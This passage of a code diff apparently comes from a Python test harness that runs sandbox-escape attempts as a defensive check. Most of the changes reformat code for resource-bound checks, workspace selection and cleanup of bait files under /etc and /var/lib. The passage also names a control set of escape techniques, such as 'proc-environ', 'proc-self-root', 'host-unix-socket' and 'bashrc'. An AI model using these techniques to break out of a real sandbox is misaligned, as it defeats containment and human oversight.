+            f"the upper layer held {max(used, peak_bytes)} bytes, past its bound of {a.limits['upper_bytes']}"
+        )
     if max(entries, peak_inodes) > a.limits["upper_inodes"]:
-        why.append(f"the upper layer held {max(entries, peak_inodes)} inodes, past its bound of "
-                   f"{a.limits['upper_inodes']}")
+        why.append(
+            f"the upper layer held {max(entries, peak_inodes)} inodes, past its bound of "
+            f"{a.limits['upper_inodes']}"
+        )
     want = "upper_inodes" if a.name == "bound-inodes" else "upper_bytes"
     # Our FUSE server has no fallocate (EOPNOTSUPP): there that loop writes nothing and reaches nothing.
     unsupported = a.name == "bound-fallocate" and backend == "fuse" and used < MiB and "filled 0" in r.stdout
@@ -608,8 +873,9 @@ def _workspace_candidates() -> list[Path]:
 
 def workspace_parent() -> Path | None:
     """Where :func:`workspace` makes its directory, or None where no candidate is writable and seen."""
-    return next((p for p in _workspace_candidates() if p.is_dir() and os.access(p, os.W_OK) and _visible(p)),
-                None)
+    return next(
+        (p for p in _workspace_candidates() if p.is_dir() and os.access(p, os.W_OK) and _visible(p)), None
+    )
 
 
 @contextlib.contextmanager
@@ -618,8 +884,9 @@ def workspace() -> Iterator[Path]:
     project: not under /tmp, /var/tmp or /run, which are private there. SPECULATE_ESCAPE_BASE chooses it."""
     parent = workspace_parent()
     if parent is None:
-        raise RuntimeError(f"no writable directory outside the sandbox's private ones among "
-                           f"{_workspace_candidates()}")
+        raise RuntimeError(
+            f"no writable directory outside the sandbox's private ones among {_workspace_candidates()}"
+        )
     base = Path(tempfile.mkdtemp(prefix="speculate-escape-", dir=parent))
     try:
         yield base
@@ -628,9 +895,23 @@ def workspace() -> Iterator[Path]:
 
 
 # Attempts whose unsandboxed run is harmless here (distinctive names, cleaned up, bait only): the control.
-CONTROL = ("etc", "var-lib", "bashrc", "git-config-global", "symlink-out", "proc-self-root", "dev-fd-dotdot",
-           "host-unix-socket", "abstract-socket", "loopback-host", "proc-environ", "sysv-shm", "other-overlays",
-           "kill-canary", *CONTROL_22)
+CONTROL = (
+    "etc",
+    "var-lib",
+    "bashrc",
+    "git-config-global",
+    "symlink-out",
+    "proc-self-root",
+    "dev-fd-dotdot",
+    "host-unix-socket",
+    "abstract-socket",
+    "loopback-host",
+    "proc-environ",
+    "sysv-shm",
+    "other-overlays",
+    "kill-canary",
+    *CONTROL_22,
+)
 
 
 @contextlib.contextmanager
@@ -660,8 +941,10 @@ def run_all(backend: str, names: list[str] | None = None) -> list[Outcome]:
             try:
                 out.append(run_attempt(a, bait, project, backend))
             finally:  # an escape's leftovers must not hide the next escape (same name, same content)
-                for p in (*Path("/etc").glob(f"speculate-escape-{bait.tag}"),
-                          *Path("/var/lib").glob(f"speculate-escape-{bait.tag}")):
+                for p in (
+                    *Path("/etc").glob(f"speculate-escape-{bait.tag}"),
+                    *Path("/var/lib").glob(f"speculate-escape-{bait.tag}"),
+                ):
                     shutil.rmtree(p) if p.is_dir() else p.unlink()
         return out
 
